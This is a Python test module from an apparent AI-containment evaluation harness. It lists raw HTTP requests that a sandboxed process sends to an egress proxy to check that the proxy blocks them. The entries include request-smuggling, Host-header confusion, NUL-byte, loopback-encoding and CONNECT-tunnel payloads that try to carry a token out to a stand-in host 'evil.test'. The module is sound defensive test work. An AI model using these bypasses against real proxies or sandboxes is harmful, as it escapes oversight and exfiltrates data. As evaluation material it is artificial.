"""Bytes from inside the sandbox to the relay that no browser would send: the proxy is to misread none of them."""

from collections.abc import Callable, Iterator

from harness.evals.containment.cases import Case, RawProbe, Spot

_Make = Callable[[Spot], bytes]


def _filled(text: str) -> _Make:
    raw = text.replace("\n", "\r\n").replace("<CR>", "\r").replace("<LF>", "\n").replace("<NUL>", "\0")
    return lambda spot: spot.fill(raw).encode("latin-1")


_GET = "GET http://$NAME/x/$TOKEN HTTP/1.1\nHost: $NAME\n\n"
_INSIDE = "GET /x/$TOKEN HTTP/1.1\nHost: $NAME\n\n"

_SINGLE: tuple[tuple[str, str, str], ...] = (
    ("absolute", "X08", _GET),
    ("absolute with allowed host", "X08", "GET http://$NAME/x/$TOKEN HTTP/1.1\nHost: allowed.test\n\n"),
    ("allowed with another host", "X07", "GET http://also.test/x/ HTTP/1.1\nHost: $TOKEN.evil.test\n\n"),
    ("origin form", "X09", "GET /x/$TOKEN HTTP/1.1\nHost: $TOKEN.evil.test\n\n"),
    ("two hosts", "X10", "GET http://also.test/x/ HTTP/1.1\nHost: also.test\nHost: $TOKEN.evil.test\n\n"),
    ("two hosts reversed", "X10", "GET http://also.test/x/ HTTP/1.1\nHost: $TOKEN.evil.test\nHost: also.test\n\n"),
    ("host with a space", "X10", "GET http://also.test/x/ HTTP/1.1\nHost : $TOKEN.evil.test\n\n"),
    ("folded host", "X18", "GET http://also.test/x/ HTTP/1.1\nX-A: b\n Host: $TOKEN.evil.test\n\n"),
    ("credentials", "U03", "GET http://also.test@$TOKEN.evil.test/x HTTP/1.1\nHost: $TOKEN.evil.test\n\n"),
    ("zero byte", "X12", "GET http://$TOKEN.evil.test<NUL>.also.test/x HTTP/1.1\nHost: $TOKEN.evil.test\n\n"),
    ("trailing dot", "U12", "GET http://$TOKEN.evil.test./x HTTP/1.1\nHost: $TOKEN.evil.test.\n\n"),
    ("capitals", "U13", "GET http://$TOKEN.EVIL.test/x HTTP/1.1\nHost: $TOKEN.evil.test\n\n"),
    ("forbidden path", "X01", "POST http://also.test/forbidden/$TOKEN HTTP/1.1\nHost: also.test\n\n"),
    ("forbidden by dots", "X01", "GET http://also.test/x/../forbidden/$TOKEN HTTP/1.1\nHost: also.test\n\n"),
    ("CL and TE", "X16", "POST http://also.test/x/ HTTP/1.1\nHost: also.test\nContent-Length: 5\n"
     "Transfer-Encoding: chunked\n\n0\n\nGET /forbidden/$TOKEN HTTP/1.1\nHost: also.test\n\n"),
    ("TE and CL", "X16", "POST http://also.test/x/ HTTP/1.1\nHost: also.test\nTransfer-Encoding: chunked\n"
     "Content-Length: 5\n\n0\n\nGET /forbidden/$TOKEN HTTP/1.1\nHost: also.test\n\n"),
    ("TE twice", "X16", "POST http://also.test/x/ HTTP/1.1\nHost: also.test\nTransfer-Encoding: chunked\n"
     "Transfer-Encoding: identity\nContent-Length: 0\n\nGET /forbidden/$TOKEN HTTP/1.1\nHost: also.test\n\n"),
    ("TE disguised", "X16", "POST http://also.test/x/ HTTP/1.1\nHost: also.test\nTransfer-Encoding: xchunked\n"
     "Content-Length: 0\n\nGET /forbidden/$TOKEN HTTP/1.1\nHost: also.test\n\n"),
    ("two lengths", "X16", "POST http://also.test/x/ HTTP/1.1\nHost: also.test\nContent-Length: 0\n"
     "Content-Length: 50\n\nGET /forbidden/$TOKEN HTTP/1.1\nHost: also.test\n\n"),
    ("signed length", "X16", "POST http://also.test/x/ HTTP/1.1\nHost: also.test\nContent-Length: +0\n\n"
     "GET /forbidden/$TOKEN HTTP/1.1\nHost: also.test\n\n"),
    ("pipelined", "X16", "GET http://also.test/x/ HTTP/1.1\nHost: also.test\n\n"
     "GET http://$NAME/x/$TOKEN HTTP/1.1\nHost: $NAME\n\n"),
    ("pipelined forbidden", "X16", "GET http://also.test/x/ HTTP/1.1\nHost: also.test\n\n"
     "GET http://also.test/forbidden/$TOKEN HTTP/1.1\nHost: also.test\n\n"),
    ("bare CR", "X18", "GET http://also.test/x/ HTTP/1.1\nHost: also.test\nX: a<CR>Host: $TOKEN.evil.test\n\n"),
    ("bare LF", "X18", "GET http://$TOKEN.evil.test/ HTTP/1.1<LF>Host: $TOKEN.evil.test<LF><LF>"),
    ("space in target", "X18", "GET http://$TOKEN.evil.test/ /x HTTP/1.1\nHost: $TOKEN.evil.test\n\n"),
    ("tab in request line", "X18", "GET http://also.test/\thttp://$TOKEN.evil.test/ HTTP/1.1\nHost: $TOKEN.evil.test\n\n"),
    ("HTTP 1.0", "X18", "GET http://$TOKEN.evil.test/ HTTP/1.0\nHost: $TOKEN.evil.test\n\n"),
    ("HTTP 0.9", "X18", "GET http://$TOKEN.evil.test/\n\n"),
    ("h2c upgrade", "X19", "GET http://$TOKEN.evil.test/ HTTP/1.1\nHost: $TOKEN.evil.test\nUpgrade: h2c\n"
     "Connection: Upgrade, HTTP2-Settings\nHTTP2-Settings: AAMAAABkAAQAAP__\n\n"),
    ("unknown upgrade", "X19", "GET http://also.test/forbidden/$TOKEN HTTP/1.1\nHost: also.test\nUpgrade: raw\n"
     "Connection: Upgrade\n\n"),
    ("TRACE", "X18", "TRACE http://$TOKEN.evil.test/ HTTP/1.1\nHost: $TOKEN.evil.test\n\n"),
    ("ftp", "X27", "GET ftp://$TOKEN.evil.test/ HTTP/1.1\nHost: $TOKEN.evil.test\n\n"),
    ("gopher", "X27", "GET gopher://$TOKEN.evil.test/ HTTP/1.1\nHost: $TOKEN.evil.test\n\n"),
    ("https absolute", "X27", "GET https://$TOKEN.evil.test/ HTTP/1.1\nHost: $TOKEN.evil.test\n\n"),
    ("method override", "A38", "POST http://also.test/forbidden/$TOKEN HTTP/1.1\nHost: also.test\n"
     "X-HTTP-Method-Override: GET\nContent-Length: 0\n\n"),
    ("role header", "X26", "GET http://$TOKEN.evil.test/ HTTP/1.1\nHost: $TOKEN.evil.test\n"
     "X-Smokescreen-Role: admin\n\n"),
    ("upstream header", "X26", "GET http://$TOKEN.evil.test/ HTTP/1.1\nHost: $TOKEN.evil.test\n"
     "X-Upstream-Https-Proxy: http://$TOKEN.evil.test\n\n"),
    ("proxy credentials", "X26", "GET http://$TOKEN.evil.test/ HTTP/1.1\nHost: $TOKEN.evil.test\n"
     "Proxy-Authorization: Basic YTpi\n\n"),
    ("loopback", "X25", "GET http://127.0.0.1:$PORT/x/$TOKEN HTTP/1.1\nHost: 127.0.0.1:$PORT\n\n"),
    ("decimal loopback", "X25", "GET http://2130706433:$PORT/x/$TOKEN HTTP/1.1\nHost: 127.0.0.1:$PORT\n\n"),
    ("IPv6 loopback", "X14", "GET http://[::1]:$PORT/x/$TOKEN HTTP/1.1\nHost: [::1]:$PORT\n\n"),
    ("mapped loopback", "X14", "GET http://[::ffff:127.0.0.1]:$PORT/x/$TOKEN HTTP/1.1\nHost: [::ffff:7f00:1]:$PORT\n\n"),
    ("unspecified", "X25", "GET http://0.0.0.0:$PORT/x/$TOKEN HTTP/1.1\nHost: 0.0.0.0:$PORT\n\n"),
    ("other port", "X02", "GET http://also.test:$PORT/x/$TOKEN HTTP/1.1\nHost: also.test:$PORT\n\n"),
    ("oversize head", "X18", "GET http://$TOKEN.evil.test/ HTTP/1.1\nHost: $TOKEN.evil.test\nX: " + "a" * 70_000 + "\n\n"),
)  # fmt: skip

_CONNECT: tuple[tuple[str, str, str, str], ...] = (
    ("connect", "X01", "CONNECT $TOKEN.evil.test:443 HTTP/1.1\nHost: $TOKEN.evil.test:443\n\n", "tls"),
    ("connect 80", "X01", "CONNECT $TOKEN.evil.test:80 HTTP/1.1\nHost: $TOKEN.evil.test:80\n\n", _INSIDE),
    ("connect allowed 22", "X02", "CONNECT also.test:22 HTTP/1.1\nHost: also.test:22\n\n", "SSH-2.0-$TOKEN\n"),
    ("connect allowed 25", "X02", "CONNECT also.test:25 HTTP/1.1\nHost: also.test:25\n\n", "EHLO $TOKEN\n"),
    ("connect allowed 8080", "X02", "CONNECT also.test:8080 HTTP/1.1\nHost: also.test:8080\n\n",
     "GET /x/$TOKEN HTTP/1.1\nHost: also.test:8080\n\n"),
    ("connect canary port", "X02", "CONNECT also.test:$PORT HTTP/1.1\nHost: also.test:$PORT\n\n",
     "GET /x/$TOKEN HTTP/1.1\nHost: also.test:$PORT\n\n"),
    ("another name in TLS", "X04", "CONNECT also.test:443 HTTP/1.1\nHost: also.test:443\n\n", "tls"),
    ("connect with another host", "X07", "CONNECT also.test:443 HTTP/1.1\nHost: $TOKEN.evil.test:443\n\n", "tls"),
    ("connect zero byte", "X12", "CONNECT $TOKEN.evil.test<NUL>.also.test:80 HTTP/1.1\nHost: also.test:80\n\n", _INSIDE),
    ("connect brackets", "X13", "CONNECT [$TOKEN.evil.test]:443 HTTP/1.1\nHost: also.test:443\n\n", "tls"),
    ("connect IPv6 loopback", "X14", "CONNECT [::1]:$PORT HTTP/1.1\nHost: [::1]:$PORT\n\n", _INSIDE),
    ("connect loopback", "X25", "CONNECT 127.0.0.1:$PORT HTTP/1.1\nHost: 127.0.0.1:$PORT\n\n", _INSIDE),
    ("connect decimal", "X25", "CONNECT 2130706433:$PORT HTTP/1.1\nHost: 2130706433:$PORT\n\n", _INSIDE),
    ("connect own relay", "X24", "CONNECT 127.0.0.1:3128 HTTP/1.1\nHost: 127.0.0.1:3128\n\n", _GET),
    ("plain inside 443", "X21", "CONNECT $TOKEN.evil.test:443 HTTP/1.1\nHost: $TOKEN.evil.test:443\n\n", "SSH-2.0-$TOKEN\n"),
    ("connect credentials", "U03", "CONNECT also.test@$TOKEN.evil.test:80 HTTP/1.1\nHost: also.test:80\n\n", _INSIDE),
    ("connect by path", "X18", "CONNECT /$TOKEN.evil.test:80 HTTP/1.1\nHost: $TOKEN.evil.test:80\n\n", _INSIDE),
    ("host inside a tunnel", "X07", "CONNECT also.test:80 HTTP/1.1\nHost: also.test:80\n\n",
     "GET /x/ HTTP/1.1\nHost: $TOKEN.evil.test\n\n"),
    ("absolute inside a tunnel", "X07", "CONNECT also.test:80 HTTP/1.1\nHost: also.test:80\n\n",
     "GET http://$TOKEN.evil.test/ HTTP/1.1\nHost: $TOKEN.evil.test\n\n"),
    ("forbidden inside a tunnel", "X01", "CONNECT also.test:80 HTTP/1.1\nHost: also.test:80\n\n",
     "GET /forbidden/$TOKEN HTTP/1.1\nHost: also.test\n\n"),
    ("h2 prior knowledge", "X19", "CONNECT $TOKEN.evil.test:80 HTTP/1.1\nHost: $TOKEN.evil.test:80\n\n",
     "PRI * HTTP/2.0\n\nSM\n\n$TOKEN"),
)  # fmt: skip


def raw_cases() -> Iterator[Case]:
    """Every sequence of bytes."""
    for name, ref, first in _SINGLE:
        yield _case(name, ref, RawProbe(_filled(first)))
    for name, ref, first, then in _CONNECT:
        if then == "tls":
            yield _case(name, ref, RawProbe(_filled(first), sni=lambda spot: f"{spot.token}.evil.test"))
        else:
            yield _case(name, ref, RawProbe(_filled(first), then=_filled(then)))


def _case(name: str, ref: str, probe: RawProbe) -> Case:
    quick = name in ("absolute", "CL and TE", "connect", "another name in TLS")
    return Case(
        id=f"proxy/{name.replace(' ', '-')}",
        kind="proxy",
        says=f"bytes to the relay: {name}",
        probe=probe,
        ref=ref,
        tags=frozenset({"quick"} if quick else ()),
    )
